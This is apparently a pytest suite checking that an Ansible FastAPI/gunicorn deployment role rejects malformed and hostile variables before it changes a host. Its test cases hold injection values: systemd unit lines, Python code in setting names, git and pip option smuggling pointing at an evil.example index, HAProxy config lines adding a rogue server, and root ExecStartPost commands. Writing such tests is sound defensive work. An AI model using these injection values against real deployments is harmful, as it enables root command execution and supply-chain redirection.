"""Bad and hostile input fails before anything changes on the host, with a message naming the variable.

Each case runs the real role (argument specs, then the input checks) against a container without
systemd. The cases of one playbook run together, in one run, as one inventory host each (all the same
container, each with its case's variables): every case must fail, name its variable and change
nothing (changed=0), and the run as a whole must leave no new file where the roles write, no new
account and every existing account as it was. The hostile cases are the ways a value could smuggle
syntax into a unit, a Python file, a command or a path: newlines and unit lines, Python code in a
setting name, a trailing newline after a valid value, an account the role did not create, and numbers
out of range.
"""

import atexit
import json
import shutil
import tempfile
from pathlib import Path

import pytest
import yaml

import harness
from harness import docker_exec

INJECT = "\nExecStartPre=/bin/touch /tmp/pwned"


def controller_dir(name, files=(), links=()):
    """A directory on the controller for the cases that read controller files: the example app with
    `files` written over it and `links` made in it, or (name "plain") an empty directory with `files`."""
    base = Path(tempfile.mkdtemp(prefix="fastapi_gunicorn-preflight-"))
    atexit.register(shutil.rmtree, base, True)
    path = base / name
    if name == "plain":
        path.mkdir()
    else:
        shutil.copytree(harness.EXAMPLE_APP, path)
    for relative, text in files:
        (path / relative).write_text(text)
    for relative, target in links:
        (path / relative).unlink(missing_ok=True)
        (path / relative).symlink_to(target)
    return str(path)


APP_LINKING_OUT = controller_dir("app", links=[("requirements.txt", "/etc/os-release")])
APP_WITH_AN_INDEX = controller_dir("app", files=[("requirements.txt", "--extra-index-url http://elsewhere.example/simple\nfastapi\n")])
NOT_A_CACHE = controller_dir("plain", files=[("notes.txt", "mine")])
APP_WITH_A_LINKED_DIR = controller_dir("app", links=[("backend", "/etc")])
# A hash-locked app whose pin of h11 no uvicorn 0.54 accepts: the server packages cannot join it.
APP_IN_CONFLICT = controller_dir("app", files=[("requirements.txt", "h11==0.7.0 \\\n    --hash=sha256:"
                                                "ce177ec2dc4a0e5b0da8a5c1b8fdd8c4c1f80ab0a1bcc1c9cf1cbcfdea8e9f77\n")])

CASES = {
    # Formats and ranges
    "workers zero": ({"fastapi_gunicorn_workers": 0}, "fastapi_gunicorn_workers"),
    "unknown worker class": ({"fastapi_gunicorn_worker_class": "sync"}, "fastapi_gunicorn_worker_class"),
    "bind without port": ({"fastapi_gunicorn_bind": ["localhost"]}, "fastapi_gunicorn_bind"),
    "relative unix socket": ({"fastapi_gunicorn_bind": ["unix:app.sock"]}, "fastapi_gunicorn_bind"),
    "app module without attribute": ({"fastapi_gunicorn_app_module": "main"}, "fastapi_gunicorn_app_module"),
    "app module calling with arguments": ({"fastapi_gunicorn_app_module": "main:create(open)"}, "fastapi_gunicorn_app_module"),
    "negative timeout": ({"fastapi_gunicorn_timeout": -1}, "fastapi_gunicorn_timeout"),
    "graceful timeout not a number": ({"fastapi_gunicorn_graceful_timeout": "soon"}, "fastapi_gunicorn_graceful_timeout"),
    "jitter above max_requests": (
        {"fastapi_gunicorn_max_requests": 0, "fastapi_gunicorn_max_requests_jitter": 50},
        "fastapi_gunicorn_max_requests_jitter",
    ),
    "missing app source": ({"fastapi_gunicorn_app_src": "/nonexistent/app"}, "fastapi_gunicorn_app_src"),
    "release id with a path": ({"fastapi_gunicorn_release_id": "../etc"}, "fastapi_gunicorn_release_id"),
    "relative base dir": ({"fastapi_gunicorn_base_dir": "srv/app"}, "fastapi_gunicorn_base_dir"),
    "base dir climbing out": ({"fastapi_gunicorn_base_dir": "/srv/../etc"}, "fastapi_gunicorn_base_dir"),
    "base dir a system directory": ({"fastapi_gunicorn_base_dir": "/usr"}, "fastapi_gunicorn_base_dir"),
    "base dir the root": ({"fastapi_gunicorn_base_dir": "/"}, "fastapi_gunicorn_base_dir"),
    "bad environment name": ({"fastapi_gunicorn_environment": {"BAD-NAME": "x"}}, "fastapi_gunicorn_environment"),
    "unknown service state": ({"fastapi_gunicorn_service_state": "restarted"}, "fastapi_gunicorn_service_state"),
    "preload not a boolean": ({"fastapi_gunicorn_preload_app": "maybe"}, "fastapi_gunicorn_preload_app"),
    "health path without slash": ({"fastapi_gunicorn_health_path": "health"}, "fastapi_gunicorn_health_path"),
    "keepalive zero": ({"fastapi_gunicorn_keepalive": 0}, "fastapi_gunicorn_keepalive"),
    "one release kept": ({"fastapi_gunicorn_keep_releases": 1}, "fastapi_gunicorn_keep_releases"),
    "request line above gunicorn's limit": ({"fastapi_gunicorn_limit_request_line": 9000}, "fastapi_gunicorn_limit_request_line"),
    # Newlines and unit syntax in values that land in the unit
    "unit line in the app name": ({"fastapi_gunicorn_app_name": "app" + INJECT}, "fastapi_gunicorn_app_name"),
    "unit section in the service name": ({"fastapi_gunicorn_service_name": "app\n[Service]" + INJECT}, "fastapi_gunicorn_service_name"),
    "unit line in the user": ({"fastapi_gunicorn_user": "app" + INJECT}, "fastapi_gunicorn_user"),
    "unit line in the group": ({"fastapi_gunicorn_group": "app" + INJECT}, "fastapi_gunicorn_group"),
    "unit line in an extra option value": ({"fastapi_gunicorn_unit_extra_options": {"LimitNPROC": "64" + INJECT}}, "fastapi_gunicorn_unit_extra_options"),
    "unit line in an extra option name": (
        {"fastapi_gunicorn_unit_extra_options": {"ExecStartPre=/bin/touch /tmp/pwned\nLimitNPROC": 64}}, "fastapi_gunicorn_unit_extra_options"),
    "extra option replacing the command": ({"fastapi_gunicorn_unit_extra_options": {"ExecStart": "/bin/sh"}}, "fastapi_gunicorn_unit_extra_options"),
    "unit line in an environment file": ({"fastapi_gunicorn_environment_files": ["/etc/app.env" + INJECT]}, "fastapi_gunicorn_environment_files"),
    "specifier in an environment file": ({"fastapi_gunicorn_environment_files": ["/etc/%h.env"]}, "fastapi_gunicorn_environment_files"),
    "unit line in an environment name": ({"fastapi_gunicorn_environment": {"A" + INJECT: "1"}}, "fastapi_gunicorn_environment"),
    "control character in an environment value": ({"fastapi_gunicorn_environment": {"A": "one\rtwo"}}, "fastapi_gunicorn_environment"),
    "NUL in a secret value": ({"fastapi_gunicorn_secret_environment": {"TOKEN": "a\u0000b"}}, "fastapi_gunicorn_secret_environment"),
    "specifier in a unix socket path": ({"fastapi_gunicorn_bind": ["unix:/run/%n.sock"]}, "fastapi_gunicorn_bind"),
    "newline in the interpreter path": ({"fastapi_gunicorn_python": "/usr/bin/python3\n/bin/sh"}, "fastapi_gunicorn_python"),
    "newline in an exclude pattern": ({"fastapi_gunicorn_app_excludes": ["docs\n--exclude"]}, "fastapi_gunicorn_app_excludes"),
    "empty exclude pattern": ({"fastapi_gunicorn_app_excludes": [""]}, "fastapi_gunicorn_app_excludes"),
    "hooks file climbing out of the app": ({"fastapi_gunicorn_server_hooks_file": "../../etc/hooks.py"}, "fastapi_gunicorn_server_hooks_file"),
    "hooks file with a newline": ({"fastapi_gunicorn_server_hooks_file": "hooks.py\nimport os"}, "fastapi_gunicorn_server_hooks_file"),
    "hooks file missing from the app": ({"fastapi_gunicorn_server_hooks_file": "no_such_hooks.py"}, "fastapi_gunicorn_server_hooks_file"),
    "newline in the access log format": ({"fastapi_gunicorn_access_log_format": "%(h)s\n%(r)s"}, "fastapi_gunicorn_access_log_format"),
    "access log format with a uvicorn worker": (
        {"fastapi_gunicorn_access_log_format": "json", "fastapi_gunicorn_worker_class": "uvicorn_worker.UvicornWorker"},
        "fastapi_gunicorn_access_log_format"),
    "prometheus switch not a boolean": ({"fastapi_gunicorn_prometheus_multiproc": "sometimes"}, "fastapi_gunicorn_prometheus_multiproc"),
    "relative pre-switch task file": ({"fastapi_gunicorn_pre_switch_tasks": "hooks/pre.yml"}, "fastapi_gunicorn_pre_switch_tasks"),
    "missing post-switch task file": ({"fastapi_gunicorn_post_switch_tasks": "/nonexistent/post.yml"}, "fastapi_gunicorn_post_switch_tasks"),
    "git repository that is an option": ({"fastapi_gunicorn_app_git_repo": "--upload-pack=touch /tmp/pwned"}, "fastapi_gunicorn_app_git_repo"),
    "git repository with a newline": ({"fastapi_gunicorn_app_git_repo": "https://example.invalid/app.git\nx"}, "fastapi_gunicorn_app_git_repo"),
    "git ref with '..'": ({"fastapi_gunicorn_app_git_repo": "/srv/repo.git", "fastapi_gunicorn_app_git_ref": "main..other"},
                          "fastapi_gunicorn_app_git_ref"),
    "git ref that is an option": ({"fastapi_gunicorn_app_git_repo": "/srv/repo.git", "fastapi_gunicorn_app_git_ref": "--output=/etc/x"},
                                  "fastapi_gunicorn_app_git_ref"),
    "git commit that is not an id": ({"fastapi_gunicorn_app_git_repo": "/srv/repo.git", "fastapi_gunicorn_app_git_commit": "HEAD~1"},
                                     "fastapi_gunicorn_app_git_commit"),
    "git repository that cannot be read": ({"fastapi_gunicorn_app_git_repo": "/nonexistent/repo.git"}, "fastapi_gunicorn_app_git_repo"),
    "constraints file climbing out of the app": ({"fastapi_gunicorn_app_constraints_file": "../constraints.txt"}, "fastapi_gunicorn_app_constraints_file"),
    "constraints file missing from the app": ({"fastapi_gunicorn_app_constraints_file": "no_such_constraints.txt"},
                                              "fastapi_gunicorn_app_constraints_file"),
    "artifact path with a newline": ({"fastapi_gunicorn_app_artifact": "/tmp/app.tar.gz\nx", "fastapi_gunicorn_app_artifact_checksum": "sha256:" + "0" * 64},
                                     "fastapi_gunicorn_app_artifact"),
    "artifact without a checksum": ({"fastapi_gunicorn_app_artifact": "/tmp/app.tar.gz"}, "fastapi_gunicorn_app_artifact_checksum"),
    "interpreter archive with a newline": (
        {"fastapi_gunicorn_python_archive": "/tmp/python.tar.gz\n/bin/sh", "fastapi_gunicorn_python_archive_checksum": "sha256:" + "0" * 64},
        "fastapi_gunicorn_python_archive"),
    "interpreter archive without a checksum": ({"fastapi_gunicorn_python_archive": "https://example.org/python.tar.gz"},
                                               "fastapi_gunicorn_python_archive_checksum"),
    "interpreter archive with a wrong checksum": (
        {"fastapi_gunicorn_python_archive": str(harness.ROOT / "README.md"), "fastapi_gunicorn_python_archive_checksum": "sha256:" + "0" * 64},
        "fastapi_gunicorn_python_archive_checksum does not match"),
    "companion name with a unit suffix": ({"fastapi_gunicorn_companions": [{"name": "worker.service", "command": ["python"]}]},
                                          "fastapi_gunicorn_companions"),
    "companion command with a newline": ({"fastapi_gunicorn_companions": [{"name": "worker", "command": ["python", "-m", "worker" + INJECT]}]},
                                         "fastapi_gunicorn_companions"),
    "companion command with a relative path": ({"fastapi_gunicorn_companions": [{"name": "worker", "command": ["../bin/sh"]}]},
                                               "fastapi_gunicorn_companions"),
    "companion without a command": ({"fastapi_gunicorn_companions": [{"name": "worker", "command": []}]}, "fastapi_gunicorn_companions"),
    "companion schedule with a unit line": ({"fastapi_gunicorn_companions": [{"name": "job", "command": ["python"], "schedule": "daily" + INJECT}]},
                                            "fastapi_gunicorn_companions"),
    "two companions with one name": ({"fastapi_gunicorn_companions": [{"name": "w", "command": ["python"]}, {"name": "w", "command": ["arq"]}]},
                                     "fastapi_gunicorn_companions"),
    "companion stop timeout zero": ({"fastapi_gunicorn_companions": [{"name": "w", "command": ["python"], "stop_timeout": 0}]},
                                    "fastapi_gunicorn_companions"),
    "negative companion settle time": ({"fastapi_gunicorn_companion_settle": -1}, "fastapi_gunicorn_companion_settle"),
    "migration command with a newline": ({"fastapi_gunicorn_migrate_command": ["alembic", "upgrade", "head" + INJECT]},
                                         "fastapi_gunicorn_migrate_command"),
    "migration command with a relative path": ({"fastapi_gunicorn_migrate_command": ["bin/../../alembic", "upgrade", "head"]},
                                               "fastapi_gunicorn_migrate_command"),
    "wheelhouse switch not a boolean": ({"fastapi_gunicorn_wheelhouse": "offline"}, "fastapi_gunicorn_wheelhouse"),
    "relative wheelhouse directory": ({"fastapi_gunicorn_wheelhouse_dir": "wheelhouses"}, "fastapi_gunicorn_wheelhouse_dir"),
    "wheelhouse directory with a newline": ({"fastapi_gunicorn_wheelhouse_dir": "/tmp/wheels" + INJECT}, "fastapi_gunicorn_wheelhouse_dir"),
    "unknown installer": ({"fastapi_gunicorn_installer": "poetry"}, "fastapi_gunicorn_installer"),
    "path in the uv version": ({"fastapi_gunicorn_uv_version": "0.13.9/../../etc"}, "fastapi_gunicorn_uv_version"),
    "newline in the uv version": ({"fastapi_gunicorn_uv_version": "0.13.9\n"}, "fastapi_gunicorn_uv_version"),
    "newline in a requirement": ({"fastapi_gunicorn_requirements": ["requests\n--index-url http://evil.example/simple"]}, "fastapi_gunicorn_requirements"),
    "space in the index URL": ({"fastapi_gunicorn_pip_index_url": "https://mirror.example/simple --trusted-host evil"}, "fastapi_gunicorn_pip_index_url"),
    "newline in the health path": ({"fastapi_gunicorn_health_path": "/health\nHost: evil"}, "fastapi_gunicorn_health_path"),
    # Python code in gunicorn_conf.py
    "code in a setting name": (
        {"fastapi_gunicorn_extra_settings": {"x = __import__('os').system('touch /tmp/pwned') #": 1}}, "fastapi_gunicorn_extra_settings"),
    "keyword as a setting name": ({"fastapi_gunicorn_extra_settings": {"import": 1}}, "fastapi_gunicorn_extra_settings"),
    "dunder as a setting name": ({"fastapi_gunicorn_extra_settings": {"__builtins__": 1}}, "fastapi_gunicorn_extra_settings"),
    "setting the role owns": ({"fastapi_gunicorn_extra_settings": {"bind": "0.0.0.0:9"}}, "fastapi_gunicorn_extra_settings"),
    "hook the role owns": ({"fastapi_gunicorn_extra_settings": {"post_worker_init": "x"}}, "fastapi_gunicorn_extra_settings"),
    # A trailing newline after a valid value
    "trailing newline in the release id": ({"fastapi_gunicorn_release_id": "v1\n"}, "fastapi_gunicorn_release_id"),
    "trailing newline in the app module": ({"fastapi_gunicorn_app_module": "main:app\n"}, "fastapi_gunicorn_app_module"),
    "trailing newline in a bind": ({"fastapi_gunicorn_bind": ["127.0.0.1:8000\n"]}, "fastapi_gunicorn_bind"),
    "trailing newline in the rollback release": ({"fastapi_gunicorn_rollback_release": "v1\n"}, "fastapi_gunicorn_rollback_release"),
    # Settings that would undo the sandbox or run a command as root (issue: hostile input, round three)
    "root command after the start": ({"fastapi_gunicorn_unit_extra_options": {"ExecStartPost": "+/bin/touch /tmp/pwned"}},
                                     "fastapi_gunicorn_unit_extra_options"),
    "empty system call filter": ({"fastapi_gunicorn_unit_extra_options": {"SystemCallFilter": ""}}, "fastapi_gunicorn_unit_extra_options"),
    "output appended to a root file": ({"fastapi_gunicorn_unit_extra_options": {"StandardOutput": "append:/etc/shadow"}},
                                       "fastapi_gunicorn_unit_extra_options"),
    "supplementary group": ({"fastapi_gunicorn_unit_extra_options": {"SupplementaryGroups": "shadow"}}, "fastapi_gunicorn_unit_extra_options"),
    "trailing backslash in an extra option": ({"fastapi_gunicorn_unit_extra_options": {"MemoryMax": "1G\\"}}, "fastapi_gunicorn_unit_extra_options"),
    "specifier in an extra option": ({"fastapi_gunicorn_unit_extra_options": {"SyslogIdentifier": "%u"}}, "fastapi_gunicorn_unit_extra_options"),
    "trailing backslash in an unsafe option": ({"fastapi_gunicorn_unit_unsafe_options": {"ProcSubset": "all\\"}},
                                               "fastapi_gunicorn_unit_unsafe_options"),
    "unsafe option replacing the user": ({"fastapi_gunicorn_unit_unsafe_options": {"User": "root"}}, "fastapi_gunicorn_unit_unsafe_options"),
    "address the sandbox cannot take": ({"fastapi_gunicorn_ip_address_allow": ["any"]}, "fastapi_gunicorn_ip_address_allow"),
    "denied address that is not one": ({"fastapi_gunicorn_ip_address_deny": ["169.254.169.254 10.0.0.0/8"]}, "fastapi_gunicorn_ip_address_deny"),
    # Paths that grant too much
    "unix socket in the root directory": ({"fastapi_gunicorn_socket_activation": False, "fastapi_gunicorn_bind": ["unix:/app.sock"]},
                                          "fastapi_gunicorn_bind"),
    "unix socket in /etc": ({"fastapi_gunicorn_socket_activation": False, "fastapi_gunicorn_bind": ["unix:/etc/app.sock"]}, "fastapi_gunicorn_bind"),
    "unix socket beside the code": ({"fastapi_gunicorn_socket_activation": False, "fastapi_gunicorn_bind": ["unix:/srv/fastapi_app/app.sock"]},
                                    "fastapi_gunicorn_bind"),
    "service named like a system unit": ({"fastapi_gunicorn_service_name": "systemd-journald"}, "fastapi_gunicorn_service_name"),
    "app named like a system directory": ({"fastapi_gunicorn_app_name": "dpkg", "fastapi_gunicorn_user": "dpkg_app", "fastapi_gunicorn_group": "dpkg_app"},
                                          "fastapi_gunicorn_app_name"),
    "a deploy account owning the code": ({"fastapi_gunicorn_deploy_owner": "deploy"}, "fastapi_gunicorn_deploy_owner"),
    "wheelhouse directory of other files": ({"fastapi_gunicorn_wheelhouse": True, "fastapi_gunicorn_wheelhouse_dir": NOT_A_CACHE},
                                            "fastapi_gunicorn_wheelhouse_dir"),
    "interpreter in /tmp": ({"fastapi_gunicorn_python": "/tmp/python3"}, "fastapi_gunicorn_python"),
    # Controller files
    "requirements file climbing out of the app": ({"fastapi_gunicorn_app_requirements_file": "../../../../../etc/os-release"},
                                                  "fastapi_gunicorn_app_requirements_file"),
    "requirements file linking out of the app": ({"fastapi_gunicorn_app_src": APP_LINKING_OUT}, "fastapi_gunicorn_app_src"),
    "CA file that is not a certificate": ({"fastapi_gunicorn_ca_certificates": ["/etc/passwd"]}, "fastapi_gunicorn_ca_certificates"),
    # Requirement lines that are installer options
    "index option as a requirement": ({"fastapi_gunicorn_requirements": ["--index-url http://elsewhere.example/simple"]}, "fastapi_gunicorn_requirements"),
    "find-links option as a requirement": ({"fastapi_gunicorn_requirements": ["--find-links=$(touch /tmp/pwned)"]}, "fastapi_gunicorn_requirements"),
    "index option in the app's requirements": ({"fastapi_gunicorn_app_src": APP_WITH_AN_INDEX}, "fastapi_gunicorn_app_requirements_file"),
    # Types: what would be written differently from what was meant
    "fullwidth digits as a number": ({"fastapi_gunicorn_limit_nofile": "\uff16\uff15\uff15\uff13\uff16"}, "fastapi_gunicorn_limit_nofile"),
    "boolean as a number": ({"fastapi_gunicorn_workers": True}, "fastapi_gunicorn_workers"),
    "list as an environment value": ({"fastapi_gunicorn_environment": {"A": ["x", "y"]}}, "fastapi_gunicorn_environment"),
    "float as a version": ({"fastapi_gunicorn_uvicorn_version": 0.30}, "fastapi_gunicorn_uvicorn_version"),
    "float as a git ref": ({"fastapi_gunicorn_app_git_repo": "/srv/repo.git", "fastapi_gunicorn_app_git_ref": 1.10}, "fastapi_gunicorn_app_git_ref"),
    # Refusals that used to come after the host changed
    "colon as a proxy address": ({"fastapi_gunicorn_forwarded_allow_ips": [":"]}, "fastapi_gunicorn_forwarded_allow_ips"),
    "host name bind with socket activation": ({"fastapi_gunicorn_bind": ["app.internal:8000"]}, "fastapi_gunicorn_bind"),
    "setting shadowing an import": ({"fastapi_gunicorn_extra_settings": {"json": 1}}, "fastapi_gunicorn_extra_settings"),
    "private name as a setting": ({"fastapi_gunicorn_extra_settings": {"_app_hooks": {}}}, "fastapi_gunicorn_extra_settings"),
    # Where the app is inside its source (issue: real apps)
    "app directory climbing out": ({"fastapi_gunicorn_app_dir": "../backend"}, "fastapi_gunicorn_app_dir"),
    "absolute app directory": ({"fastapi_gunicorn_app_dir": "/srv/backend"}, "fastapi_gunicorn_app_dir"),
    "unit line in the app directory": ({"fastapi_gunicorn_app_dir": "backend" + INJECT}, "fastapi_gunicorn_app_dir"),
    "app directory missing from the source": ({"fastapi_gunicorn_app_dir": "no_such_dir"}, "fastapi_gunicorn_app_dir"),
    "app directory linking out of the source": ({"fastapi_gunicorn_app_src": APP_WITH_A_LINKED_DIR, "fastapi_gunicorn_app_dir": "backend"},
                                                "fastapi_gunicorn_app_src: backend links outside the source (/etc)"),
    "the gunicorn chdir of before 3.0.0": ({"fastapi_gunicorn_chdir": "/srv/fastapi_app/current/backend"}, "fastapi_gunicorn_app_dir"),
    "server package in conflict with the app's lock": ({"fastapi_gunicorn_app_src": APP_IN_CONFLICT}, "fastapi_gunicorn_uvicorn_version"),
    # Accounts the role did not create
    "root as the service user": ({"fastapi_gunicorn_user": "root"}, "fastapi_gunicorn_user"),
    "a system account as the service user": ({"fastapi_gunicorn_user": "daemon", "fastapi_gunicorn_group": "fastapi_app"}, "fastapi_gunicorn_user"),
    "a login account as the service user": ({"fastapi_gunicorn_user": "alice", "fastapi_gunicorn_group": "fastapi_app"}, "fastapi_gunicorn_user"),
    "the code owner as the service user": (
        {"fastapi_gunicorn_user": "deploy", "fastapi_gunicorn_deploy_owner": "deploy"}, "fastapi_gunicorn_user"),
    "a system group as the service group": ({"fastapi_gunicorn_group": "shadow"}, "fastapi_gunicorn_group"),
    "root as the service group": ({"fastapi_gunicorn_group": "root"}, "fastapi_gunicorn_group"),
    # Ports out of range
    "port zero": ({"fastapi_gunicorn_bind": ["127.0.0.1:0"]}, "fastapi_gunicorn_bind"),
    "port above 65535": ({"fastapi_gunicorn_bind": ["127.0.0.1:70000"]}, "fastapi_gunicorn_bind"),
}

# The HAProxy role writes its variables into haproxy.cfg.
HAPROXY_CASES = {
    "frontend port above 65535": ({"fastapi_gunicorn_haproxy_frontend_bind": ["*:70000"]}, "fastapi_gunicorn_haproxy_frontend_bind"),
    "server port above 65535": ({"fastapi_gunicorn_haproxy_server_port": 70000}, "fastapi_gunicorn_haproxy_server_port"),
    "no port for an app host that binds unix sockets only": ({"fastapi_gunicorn_bind": ["unix:/run/fastapi_app/app.sock"]},
                                                             "fastapi_gunicorn_haproxy_server_port"),
    "config line in an extra line": (
        {"fastapi_gunicorn_haproxy_backend_extra": ["balance first\nserver evil 203.0.113.9:80"]}, "fastapi_gunicorn_haproxy_defaults_extra"),
    "config line in a backend name": ({"fastapi_gunicorn_haproxy_backend_name": "app\n  server evil 203.0.113.9:80"}, "fastapi_gunicorn_haproxy_frontend_name"),
    "config line in the health path": ({"fastapi_gunicorn_haproxy_health_path": "/health\nserver evil"}, "fastapi_gunicorn_haproxy_health_path"),
    "unknown timeout": ({"fastapi_gunicorn_haproxy_timeouts": {"connect 1s\nbind": 1000}}, "fastapi_gunicorn_haproxy_timeouts"),
    "app keep-alive below HAProxy's": (
        {"fastapi_gunicorn_keepalive": 5, "fastapi_gunicorn_haproxy_timeouts": {"http_keep_alive": 10000}}, "fastapi_gunicorn_keepalive"),
    "config line in a TLS bind": ({"fastapi_gunicorn_haproxy_tls_bind": ["*:443 ssl crt /etc/ssl/x.pem\nbind *:81"]}, "fastapi_gunicorn_haproxy_frontend_bind"),
    "TLS port zero": ({"fastapi_gunicorn_haproxy_tls_bind": ["*:0"]}, "fastapi_gunicorn_haproxy_frontend_bind"),
    "certificate that is not a file": ({"fastapi_gunicorn_haproxy_tls_pem": "/nonexistent/lb.pem"}, "fastapi_gunicorn_haproxy_tls_pem"),
    "newline in the certificate path": ({"fastapi_gunicorn_haproxy_tls_pem": "/etc/hostname\n"}, "fastapi_gunicorn_haproxy_tls_pem"),
    "negative HSTS max-age": ({"fastapi_gunicorn_haproxy_hsts_max_age": -1}, "fastapi_gunicorn_haproxy_hsts_max_age"),
    "admin socket in a world-writable directory": ({"fastapi_gunicorn_haproxy_admin_socket": "/tmp/haproxy.sock"}, "fastapi_gunicorn_haproxy_admin_socket"),
    "admin socket in another account's directory": ({"fastapi_gunicorn_haproxy_admin_socket": "/home/alice/haproxy.sock"},
                                                    "fastapi_gunicorn_haproxy_admin_socket"),
    "float as a timeout": ({"fastapi_gunicorn_haproxy_timeouts": {"client": 1.5}}, "fastapi_gunicorn_haproxy_timeouts"),
}

ROLLOUT_CASES = {
    "newline after a drain step": ({"fastapi_gunicorn_rollout_drain_tasks": "/etc/hostname\n"}, "fastapi_gunicorn_rollout_drain_tasks"),
    "relative enable step": ({"fastapi_gunicorn_rollout_enable_tasks": "hooks/enable.yml"}, "fastapi_gunicorn_rollout_enable_tasks"),
    "unknown entry point": ({"fastapi_gunicorn_rollout_entry_point": "main\nx"}, "fastapi_gunicorn_rollout_entry_point"),
}

# Everything the roles could write: a failed run must leave nothing newer than the marker here.
WATCHED = "/etc /srv /opt /usr/local /var/lib /var/cache /run"

LEGAL = {"fastapi_gunicorn_environment": {"A": "100% $HOME \"q\"\nline 2\ttab ü"},
         "fastapi_gunicorn_secret_environment": {"PEM": "-----BEGIN KEY-----\nabc\n-----END KEY-----\n"},
         "fastapi_gunicorn_extra_settings": {"backlog": 2048, "raw_env": ["A=1"]},
         "fastapi_gunicorn_unit_extra_options": {"LimitNPROC": 512, "MemoryMax": "80%", "CPUQuota": "150%"},
         "fastapi_gunicorn_unit_unsafe_options": {"ProcSubset": "all", "Description": "100% $HOME"},
         "fastapi_gunicorn_ip_address_allow": ["10.20.0.0/16", "2001:db8::/32"],
         "fastapi_gunicorn_bind": ["127.0.0.1:8000", "[::1]:8000", "unix:/run/fastapi_app/app.sock"],
         "fastapi_gunicorn_limit_nofile": "0065536",
         "fastapi_gunicorn_companions": [{"name": "worker", "command": ["arq", "app.Worker", "--note=100% $HOME \"q\" ü"]},
                                         {"name": "nightly_job", "command": ["/usr/bin/env", "python3", "-m", "job"], "schedule": "Mon..Fri *-*-* 02:00:00"}],
         "fastapi_gunicorn_migrate_command": ["alembic", "-x", "note=$HOME 100%", "upgrade", "head"],
         "fastapi_gunicorn_wheelhouse": True, "fastapi_gunicorn_wheelhouse_dir": controller_dir("plain") + "/wheel houses ü"}
# Legal but special values pass every input check, and the container (sleep is PID 1) stops each
# role at its platform check, before any change.
LEGAL_CASE = (LEGAL, "systemd is not PID 1")
PLAYBOOKS = {"apply_role.yml": {**CASES, "legal but special values": LEGAL_CASE},
             "apply_haproxy.yml": {**HAPROXY_CASES, "legal but special values": LEGAL_CASE},
             "apply_rollout.yml": ROLLOUT_CASES}


def exec_in(container, script):
    return docker_exec(container, "sh", "-c", script).stdout


def run_cases(container, playbook, cases):
    """One run of the playbook, one inventory host per case (case000, case001, ...), all on `container`.
    Returns {case: (failed, changed, everything the run said of that host)}."""
    names = sorted(cases)
    hosts = {f"case{index:03d}": {"ansible_host": container, "ansible_connection": "community.docker.docker", **cases[name][0]}
             for index, name in enumerate(names)}
    with tempfile.TemporaryDirectory() as workdir:
        inventory = Path(workdir) / "hosts.yml"
        inventory.write_text(yaml.safe_dump({"all": {"hosts": hosts}}, allow_unicode=True), encoding="utf-8")
        result = harness.run_playbook(str(inventory), f"tests/playbooks/{playbook}", {}, timeout=900,
                                      env={"ANSIBLE_STDOUT_CALLBACK": "ansible.builtin.json", "ANSIBLE_FORKS": "12"})
    try:
        report = json.loads(result.stdout[result.stdout.index("{"):])
    except ValueError:
        raise AssertionError(result.stdout[-3000:] + result.stderr[-3000:]) from None
    said = {host: [] for host in hosts}
    for play in report["plays"]:
        for task in play["tasks"]:
            for host, outcome in task["hosts"].items():
                if outcome.get("failed"):
                    said[host].append(json.dumps(outcome, ensure_ascii=False))
    stats = report["stats"]
    return {name: (stats[host]["failures"], stats[host]["changed"], "\n".join(said[host]))
            for name, host in zip(names, sorted(hosts))}


@pytest.fixture(scope="module")
def accounts(plain_container):
    """A login account and a deploy account, as a real host has them."""
    exec_in(plain_container, "useradd -m -s /bin/bash alice && useradd -m -s /bin/bash deploy")
    return exec_in(plain_container, "getent passwd alice deploy daemon root")


# Cases that get as far as the play's git or artifact source, which is resolved once for every host of
# a play (run_once, from the first host's variables): each runs on its own.
ALONE = {"git repository that cannot be read"}


@pytest.fixture(scope="module")
def outcomes(plain_container, accounts):
    """Every playbook's cases, each playbook in one run; then nothing may be new on the container."""
    exec_in(plain_container, "touch /tmp/before-run && sleep 1")
    found = {playbook: run_cases(plain_container, playbook, {c: v for c, v in cases.items() if c not in ALONE})
             for playbook, cases in PLAYBOOKS.items()}
    for playbook, cases in PLAYBOOKS.items():
        for case in ALONE & set(cases):
            found[playbook].update(run_cases(plain_container, playbook, {case: cases[case]}))
    new = exec_in(plain_container, f"find {WATCHED} -newer /tmp/before-run -print 2>/dev/null || true")
    return found, new


@pytest.mark.parametrize(("playbook", "case"), [(p, c) for p, cases in PLAYBOOKS.items() for c in cases],
                         ids=[f"{p[6:-4]}: {c}" for p, cases in PLAYBOOKS.items() for c in cases])
def test_bad_input_fails_before_any_change(outcomes, playbook, case):
    failed, changed, said = outcomes[0][playbook][case]
    variable = PLAYBOOKS[playbook][case][1]
    assert (failed, changed) == (1, 0), said
    assert variable in said, said


def test_no_case_changed_the_host(plain_container, accounts, outcomes):
    """Nothing new anywhere the roles write, no service account, the existing accounts as they were."""
    assert outcomes[1] == ""
    assert exec_in(plain_container, "getent passwd fastapi_app fastapi_app-build || true") == ""
    assert exec_in(plain_container, "getent passwd alice deploy daemon root") == accounts
    assert exec_in(plain_container, "ls /tmp/pwned 2>/dev/null || true") == ""


def test_unsupported_os_family_is_refused(plain_container, accounts, outcomes):
    os_release = 'NAME="Fedora Linux"\nID=fedora\nVERSION_ID=40\nPRETTY_NAME="Fedora Linux 40"\n'
    exec_in(plain_container, f"mv /etc/os-release /tmp/os-release.orig && printf '{os_release}' > /etc/os-release && sleep 1 && touch /tmp/before-fedora")
    try:
        for playbook in ("apply_role.yml", "apply_haproxy.yml"):
            found = run_cases(plain_container, playbook, {"fedora": (LEGAL, "")})["fedora"]
            assert found[:2] == (1, 0) and "Unsupported OS family Fedora" in found[2], found
        assert exec_in(plain_container, f"find {WATCHED} -newer /tmp/before-fedora -print 2>/dev/null || true") == ""
    finally:
        exec_in(plain_container, "mv -f /tmp/os-release.orig /etc/os-release")
